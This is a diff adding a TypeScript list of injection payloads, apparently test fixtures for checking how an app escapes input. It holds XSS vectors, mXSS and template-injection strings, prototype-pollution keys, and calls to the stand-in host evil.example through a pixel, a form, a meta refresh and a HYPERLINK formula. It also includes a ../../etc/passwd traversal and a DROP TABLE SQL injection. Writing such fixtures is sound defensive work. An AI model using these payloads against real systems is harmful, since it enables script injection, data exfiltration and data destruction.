@@ -1,0 +1,66 @@
+/** Marks a payload's script would leave if it ran. */
+const RUN = 'window.__pwned=(window.__pwned||0)+1;alert(1)';
+
+const TAGS = [
+  'img src=x onerror',
+  'svg onload',
+  'body onload',
+  'video src=x onerror',
+  'audio src=x onerror',
+  'details open ontoggle',
+  'input autofocus onfocus',
+  'marquee onstart',
+  'iframe src=x onload',
+  'object data=x onerror',
+  'style onload',
+  'a href=x style="animation:x" onanimationstart',
+];
+
+const QUOTES = [
+  '',
+  '"',
+  "'",
+  '`',
+  '">',
+  "'>",
+  '--><',
+  ']]>',
+  '</title>',
+  '</textarea>',
+  '</style>',
+];
+
+/** Text that would run, style, load or break out if it were ever taken for markup or code. */
+export const PAYLOADS: readonly string[] = [
+  ...TAGS.map((tag) => `<${tag}="${RUN}">`),
+  ...QUOTES.map((quote) => `${quote}<script>${RUN}</script>`),
+  ...QUOTES.map((quote) => `${quote} onmouseover=${RUN} x=${quote}`),
+  `<iframe srcdoc="<script>parent.__pwned=1;parent.alert(1)</script>"></iframe>`,
+  `<a href="javascript:${RUN}">a refund</a>`,
+  `[a refund](javascript:${RUN})`,
+  `javascript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<img src="https://evil.example/pixel.gif">`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+  `<form action="https://evil.example/"><button>Refund</button></form>`,
+  `<template><script>${RUN}</script></template>`,
+  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  '__proto__',
+  'constructor',
+  '{"__proto__":{"polluted":true}}',
+  "{name} {order} {{name}} $& $1 $` $'",
+  'Mara\u202egnirts\u2066\u200b\u0000\ufeff',
+  `${'a'.repeat(5_000)}<script>${RUN}</script>`,
+  `${'<b>'.repeat(500)}deep`,
+  '=HYPERLINK("https://evil.example","refund")',
+  `../../etc/passwd`,
+  `'; DROP TABLE events; --`,
+];
